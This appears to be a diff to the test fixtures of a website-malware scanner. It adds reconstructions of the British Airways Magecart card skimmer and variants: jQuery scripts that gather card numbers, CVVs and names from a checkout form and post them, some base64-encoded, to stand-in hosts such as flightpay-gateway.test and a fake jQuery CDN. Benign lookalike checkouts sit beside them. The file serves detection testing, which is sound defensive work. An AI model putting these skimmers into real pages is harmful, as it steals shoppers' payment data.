@@ -212,6 +212,21 @@ KEITARO = (
     "se_referrer=' + encodeURIComponent(document.referrer) + '&default_keyword=' + "
     "encodeURIComponent(document.title) + '&frm=script\"></scr' + 'ipt>');</script>")
 APPENDED = '<script src="https://jqueryui-cdn-libs.test/ui.js"></script>'
+# British Airways' Magecart (RiskIQ's write-up): the payment form serialised on the pay
+# button's mouseup or touchend and posted by jQuery.ajax to a host of the attacker's;
+# the checkout's form (a booking site's, names made up) comes with it
+_PAY_FORM = (
+    "<form id='paymentForm' action='/booking/confirm' method='post'><input id='cardNumber' "
+    "name='cardNumber'><input id='cvv' name='cvv'><input id='cardholderName' name="
+    "'cardholderName'><button id='submitButton' type='button'>Pay now</button></form>"
+    "<div id='personPaying'>Ann Example</div>")
+SKIM_JQUERY_AJAX = (
+    _PAY_FORM + "<script>window.onload=function(){jQuery('#submitButton').bind('mouseup "
+    "touchend',function(a){var n={};jQuery('#paymentForm').serializeArray().map(function(a)"
+    "{n[a.name]=a.value});var e=document.getElementById('personPaying').innerHTML;n.person=e;"
+    "var t=JSON.stringify(n);setTimeout(function(){jQuery.ajax({type:'POST',async:!0,url:"
+    "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
+    "'application/json'})},500)})};</script>")
 
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
@@ -404,6 +419,12 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<script>document.getElementById('contact').addEventListener('submit',function(e){e."
         "preventDefault();navigator.sendBeacon('https://formspree.io/f/xqkrvwpz',new FormData("
         "e.target));});</script>")}),
+    ("a contact form posted by jQuery to its forms backend", {"footer": (
+        "<form id='contact' action='https://forms.formcatch.example/f/xqkrvwpz' method='post'>"
+        "<input name='email'><textarea name='message'></textarea></form><script>jQuery("
+        "function($){$('#contact').on('submit',function(e){e.preventDefault();$.post('https:"
+        "//forms.formcatch.example/f/xqkrvwpz',$(this).serialize(),function(){$('#contact')."
+        "html('Thanks!');});});});</script>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -687,6 +708,15 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
         "v1/tokens',{method:'POST',body:JSON.stringify({number:f.cardnumber.value,cvc:f.cvc."
         "value})}).then(function(r){return r.json();}).then(function(t){document."
         "getElementById('token').value=t.id;});});</script>")}, "form-skimmer", M),
+    ("a jQuery checkout posting card fields to its gateway by $.ajax, the answer read", {
+        "footer": _PAY_FORM + (
+            "<script>jQuery(function($){$('#submitButton').on('click',function(){$('input')."
+            "each(function(){$(this).removeClass('has-error');});$.ajax({type:'POST',url:'https:"
+            "//api.kartpay.example/v1/charge',contentType:'application/json',data:JSON."
+            "stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val()}),success:function"
+            "(r){window.location=r.redirect;}});});});</script>")}, "form-skimmer", M),
+    ("British Airways' jQuery.ajax form, to a plain host: nothing else marks it", {
+        "footer": SKIM_JQUERY_AJAX}, "form-skimmer", M),
     ("a gift card balance check picking its form by a class", {"footer": (
         "<form class='gift-card-form'><input name='cardnumber'></form><script>document."
         "addEventListener('submit',function(e){var f=e.target.closest('.gift-card-form');if(!f)"
@@ -775,6 +805,20 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
      "appended-script"),
     ("a script after </html> on a brand joined to CDN words in one word", {"after": (
         '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
+    ("British Airways' jQuery.ajax form, what it posts base64", {
+        "footer": SKIM_JQUERY_AJAX.replace("data:t,", "data:btoa(t),")}, "form-skimmer"),
+    ("British Airways' jQuery.ajax form, to a host dressed as jQuery's CDN", {
+        "footer": SKIM_JQUERY_AJAX.replace("flightpay-gateway.test", "jquery-cdn-static.test")},
+     "form-skimmer"),
+    ("a Ticketmaster-style $.post of every input jQuery picks", {"footer": _PAY_FORM + (
+        "<script>jQuery(function($){$('#submitButton').on('click',function(){var d={};$("
+        "'input').each(function(){d[$(this).attr('name')]=$(this).val();});if(d.cardNumber){"
+        "$.post('https://tix-analytics.test/collect',{d:JSON.stringify(d)});}});});</script>")},
+     "form-skimmer"),
+    ("$.ajax with its url first and method after, every form serialised", {"footer": (
+        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
+        "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
+        "'#cardNumber').val()}});});</script>")}, "form-skimmer"),
     ("a script after </html> on a brand beside sign-in words", {"after": (
         '<script src="https://paypal-secure-login.test/w.js"></script>')}, "appended-script"),
     ("a script after </html> on a brand beside a word, its digits for letters", {"after": (
